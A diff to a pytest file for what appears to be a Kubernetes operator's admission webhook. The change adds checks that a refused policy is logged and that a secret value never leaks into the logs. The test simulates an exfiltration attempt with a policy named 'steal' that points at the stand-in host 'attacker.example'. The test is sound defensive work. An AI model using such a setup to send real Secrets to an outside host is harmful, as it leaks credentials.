@@ -9,6 +9,7 @@ group. A policy sends the value of each Secret it names to its gateway: alice mu
 from __future__ import annotations
 
 import json
+import logging
 import subprocess
 import uuid
 from collections.abc import Iterator
@@ -159,8 +160,9 @@ def _wait_until_checking(users: Users) -> None:
 
 
 def test_an_author_cannot_name_a_secret_they_cannot_read(
-    users: Users, policy_webhook: ThreadedWebhook
+    users: Users, policy_webhook: ThreadedWebhook, caplog: pytest.LogCaptureFixture
 ) -> None:
+    caplog.set_level(logging.INFO, logger="outbound_operator")
     _wait_until_checking(users)
     ns = users.namespace
     stolen = users.create("alice", policy("steal", gateway="attacker.example"))
@@ -188,6 +190,8 @@ def test_an_author_cannot_name_a_secret_they_cannot_read(
     # Changes that name no Secret anew pass.
     assert users.kubectl("alice", "label", POLICIES, "bobs", "team=mail").returncode == 0
     assert "S3cret" not in stolen.stderr + missing.stderr + moved.stderr
+    assert "which alice may not get" in caplog.text  # the webhook's log says who was refused, and why
+    assert "S3cret" not in caplog.text
 
 
 @pytest.mark.parametrize("who", ["alice", "bob"])
